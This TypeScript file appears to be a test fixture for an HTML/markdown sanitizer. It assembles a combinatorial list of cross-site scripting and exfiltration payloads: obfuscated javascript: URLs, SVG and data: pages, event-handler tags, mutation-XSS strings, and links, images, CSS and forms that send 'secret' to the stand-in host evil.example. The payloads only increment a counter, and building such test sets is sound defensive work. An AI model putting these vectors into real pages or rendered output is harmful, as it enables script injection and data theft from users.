/** Whatever of these runs, counts itself; whatever is loaded from elsewhere is seen on its way out. */
const elsewhere = 'https://evil.example';
const run = 'window.ran=(window.ran||0)+1';
const page = `<script>parent.ran=(parent.ran||0)+1</script>`;

const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java&#9;script:${run}`,
  `&#106;avascript:${run}`,
  `javascript&colon;${run}`,
  ` javascript:${run}`,
  `vbscript:${run}`,
  `data:text/html,${page}`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`,
  `${elsewhere}/p?d=secret`,
  '//evil.example/p?d=secret',
];

const carriers: ((to: string) => string)[] = [
  (to) => `[click](${to})`,
  (to) => `![pixel](${to})`,
  (to) => `[![both](${to})](${to})`,
  (to) => `<${to}>`,
  (to) => `[a reference][r]\n\n[r]: ${to}`,
  (to) => `![a reference][r]\n\n[r]: ${to} "title"`,
  (to) => `| a | b |\n|---|---|\n| ![x](${to}) | [y](${to}) |`,
  (to) => `- ![x](${to})\n  - [y](${to})`,
  (to) => `> # ![x](${to})`,
  (to) => `\`\`\`html\n<img src="${to}">\n\`\`\``,
  (to) => `\`\`\`mermaid\ngraph TD; A-->B; click A "${to}"\n\`\`\``,
  (to) => `\`\`\`vega\n{"data":{"url":"${to}"},"mark":"bar"}\n\`\`\``,
  (to) => `$$\\href{${to}}{x} \\includegraphics{${to}} \\undefined{$$`,
  (to) => `<a href="${to}" autofocus>x</a>`,
  (to) => `<img src="${to}" srcset="${to} 2x">`,
  (to) => `<iframe src="${to}" srcdoc="<img src='${to}'>"></iframe>`,
  (to) => `<object data="${to}"></object><embed src="${to}">`,
  (to) => `<link rel="stylesheet prefetch" href="${to}">`,
  (to) => `<style>@import url("${to}"); body { background: url("${to}") }</style>`,
  (to) => `<p style="background: url(${to}); position: fixed; inset: 0">x</p>`,
  (to) => `<base href="${to}"><meta http-equiv="refresh" content="0;url=${to}">`,
  (to) => `<form action="${to}"><button autofocus>x</button></form>`,
  (to) => `<svg><a xlink:href="${to}"><image href="${to}"/><use href="${to}"/></a></svg>`,
  (to) => `<video poster="${to}" src="${to}" autoplay></video><audio src="${to}" autoplay></audio>`,
];

const tags = [
  'img src=x',
  'svg',
  'body',
  'details open',
  'video src=x',
  'input autofocus',
  'marquee',
  'x style',
];
const events = ['onerror', 'onload', 'ontoggle', 'onfocus', 'onanimationstart', 'onstart'];
const handlers = tags.flatMap((tag) => events.map((event) => `<${tag} ${event}="${run}">`));

const scripts = [
  `<script>${run}</script>`,
  `</textarea></title></script><script>${run}</script>`,
  `<svg><script>${run}</script></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${run}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `{{constructor.constructor('${run}')()}}`,
  `"><img src=x onerror=${run}>`,
  `\u202e\u2066<img src=x onerror=${run}>`,
];

export const payloads = [
  ...addresses.flatMap((address) => carriers.map((carrier) => carrier(address))),
  ...handlers,
  ...scripts,
];
